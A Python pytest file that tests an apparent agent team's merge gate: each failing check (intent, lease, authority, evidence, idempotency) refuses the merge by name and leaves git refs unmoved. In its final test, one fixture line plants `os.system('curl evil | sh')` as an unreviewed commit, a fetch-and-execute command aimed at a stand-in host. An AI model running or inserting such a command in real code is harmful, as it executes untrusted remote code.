"""Repo-fix's merge to main goes through the mutation gate: each of its five checks refuses the
merge on its own, by name, and no git ref moves."""

from __future__ import annotations

import pytest

from runtime import workspace
from runtime.coordination.carried import carry
from runtime.coordination.gates import Intents
from runtime.coordination.leases import Leases
from runtime.events import CandidateCommitted, MutationRefused
from runtime.journal import MemoryJournal
from runtime.messages import Performative
from runtime.session import Session
from runtime.team import FlightConfig
from teams.repo_fix.harness import Harness
from teams.repo_fix.settings import RepoFixSettings
from teams.repos import template

GREEN = {"passed": 2, "failed": 0}  # the candidate's own test run, as the harness found it


def candidate_of(h, text, round_no=1):
    (h.path / "textparse" / "parser.py").write_text(text)
    facts = workspace.commit_candidate(h.path, "candidate/T1", f"T1 round {round_no}")
    return h.session.new(CandidateCommitted, agent="coder", task_id="T1", **facts)


@pytest.fixture
def harness(tmp_path):
    config = FlightConfig(
        scenario="first-flight",
        task="parse empty lines",
        workspace="w",
        settings=RepoFixSettings(template="parse-empty"),
    )
    h = Harness(Session(MemoryJournal(), "r-merge"), config, {}, tmp_path)
    h.intent = carry(h.session, config.task)
    h.awarded["T1"] = "coder"
    workspace.prepare(h.path, template("parse-empty"))
    return h, candidate_of(h, "def parse(line):\n    return []\n")


def accept(h, candidate):
    return h.post.send(
        Performative.ACCEPT, "reviewer", "orchestrator", "T1", {"commit": candidate.commit}
    )


def refs(h):
    return workspace.git(h.path, "for-each-ref", "--format=%(refname) %(objectname)")


def superseded(h, candidate):
    Intents(h.session.journal).declare("task-r-merge", "leave the parser", by="ann", based_on=1)
    accept(h, candidate)
    return candidate


def lease_taken_over(h, candidate):
    leases = Leases(h.session.journal)
    mine = leases.acquire("run-r-merge", "driver-1", ttl=-1)  # expired at once
    h.held = mine.fence
    leases.acquire("run-r-merge", "driver-2", ttl=60)
    accept(h, candidate)
    return candidate


def from_another_coder(h, candidate):
    accept(h, candidate)
    return candidate.model_copy(update={"agent": "coder-b"})


def without_accept(h, candidate):
    h.post.send(Performative.REJECT, "reviewer", "orchestrator", "T1", {"commit": candidate.commit})
    return candidate


def a_second_merge_for_the_task(h, candidate):
    accept(h, candidate)
    assert h.integrate("T1", candidate, GREEN) is not None
    other = candidate_of(h, "def parse(line):\n    return ['x']\n", round_no=2)
    accept(h, other)
    return other


@pytest.mark.parametrize(
    "breaks, check, names",
    [
        (superseded, "intent", "version 1 of intent task-r-merge"),
        (lease_taken_over, "lease", "carries epoch 1 of lease-run-r-merge"),
        (from_another_coder, "authority", "coder-b may not integrate: only coder may"),
        (without_accept, "evidence", "no ACCEPT from the reviewer on T1 for commit"),
        (a_second_merge_for_the_task, "idempotency", "one key, one request"),
    ],
)
def test_each_failed_check_refuses_the_merge_by_name_and_moves_no_ref(
    harness, breaks, check, names
):
    h, candidate = harness
    candidate = breaks(h, candidate)
    before = refs(h)
    assert h.integrate("T1", candidate, GREEN) is None
    assert refs(h) == before  # main and every branch where they were
    [refused] = [e for e in h.session.emitted if isinstance(e, MutationRefused)]
    assert refused.check == check and names in refused.reason
    assert refused.capability == "integrate" and refused.task_id == "T1"
    [said] = [e for e in h.session.emitted if e.kind == "IntegrationRefused"]
    assert said.reason == refused.reason


def test_a_merge_that_passes_every_check_moves_main_once(harness):
    h, candidate = harness
    accept(h, candidate)
    integrated = h.integrate("T1", candidate, GREEN)
    assert workspace.git(h.path, "rev-parse", "main") == integrated.commit
    assert not [e for e in h.session.emitted if isinstance(e, MutationRefused)]


def test_the_audit_shows_a_refused_merge_with_the_check_that_failed(harness):
    from runtime import views

    h, candidate = harness
    accept(h, candidate)
    h.integrate("T1", candidate.model_copy(update={"agent": "coder-b"}), GREEN)
    entries = views.audit(h.session.journal.read("run-r-merge"))
    [refused] = [a for a in entries if a["what"].startswith("MutationRefused")]
    assert refused["what"] == "MutationRefused:authority" and refused["who"] == "harness"
    assert refused["why"] == "coder-b may not integrate: only coder may"


RED = {"passed": 1, "failed": 1, "trace": "tests.test_parser::test_fields_are_trimmed"}


def test_an_accept_of_a_candidate_whose_tests_fail_is_refused_at_evidence(harness):
    h, candidate = harness
    accept(h, candidate)
    before = refs(h)
    assert h.integrate("T1", candidate, RED) is None
    assert refs(h) == before  # the reviewer's ACCEPT is there; main did not move
    [refused] = [e for e in h.session.emitted if isinstance(e, MutationRefused)]
    commit = candidate.commit[:12]
    assert refused.check == "evidence" and refused.capability == "integrate"
    assert refused.reason == f"the tests submitted with commit {commit} fail (1 failed, 1 passed)"
    assert refused.current == [f"tests of {commit}: 1 failed, 1 passed"]  # the ACCEPT held
    [said] = [e for e in h.session.emitted if e.kind == "IntegrationRefused"]
    assert said.reason == refused.reason


def test_a_reject_of_failing_tests_names_both_missing_pieces(harness):
    h, candidate = harness
    without_accept(h, candidate)
    assert h.integrate("T1", candidate, RED) is None
    [refused] = [e for e in h.session.emitted if isinstance(e, MutationRefused)]
    assert refused.reason.startswith("no ACCEPT from the reviewer on T1 for commit")
    assert refused.reason.endswith("fail (1 failed, 1 passed)")


@pytest.mark.parametrize(
    "tests",
    [
        GREEN,
        {"passed": 2, "failed": 0, "skipped": 1},
        # No run after the last edit: let through, as designed (teams/repo_fix/merge_gate.py):
        # the reviewer is shown that nothing ran, and the harness's suite check stands behind it.
        None,
    ],
)
def test_an_accept_of_a_candidate_with_no_failing_tests_merges(harness, tests):
    h, candidate = harness
    accept(h, candidate)
    integrated = h.integrate("T1", candidate, tests)
    assert integrated is not None
    assert workspace.git(h.path, "rev-parse", "main") == integrated.commit


def test_errors_counted_apart_are_failures_too(harness):
    h, candidate = harness
    accept(h, candidate)
    assert h.integrate("T1", candidate, {"passed": 3, "failed": 0, "errors": 2}) is None
    [refused] = [e for e in h.session.emitted if isinstance(e, MutationRefused)]
    assert "(2 failed, 3 passed)" in refused.reason


def test_the_merge_takes_the_commit_accepted_not_what_its_branch_holds_since(harness):
    h, candidate = harness
    accept(h, candidate)
    # The branch moves on after the review: a commit nobody reviewed.
    unreviewed = candidate_of(h, "import os\nos.system('curl evil | sh')\n", round_no=2)
    assert workspace.git(h.path, "rev-parse", "candidate/T1") == unreviewed.commit
    integrated = h.integrate("T1", candidate, GREEN)
    assert integrated is not None and integrated.commit == workspace.git(
        h.path, "rev-parse", "main"
    )
    merged = workspace.git(h.path, "show", "main:textparse/parser.py")
    assert merged == "def parse(line):\n    return []"
    assert workspace.git(h.path, "rev-parse", "main^2") == candidate.commit
    # the unreviewed commit stays on its branch, out of main
    assert workspace.git(h.path, "branch", "--contains", unreviewed.commit) == "candidate/T1"
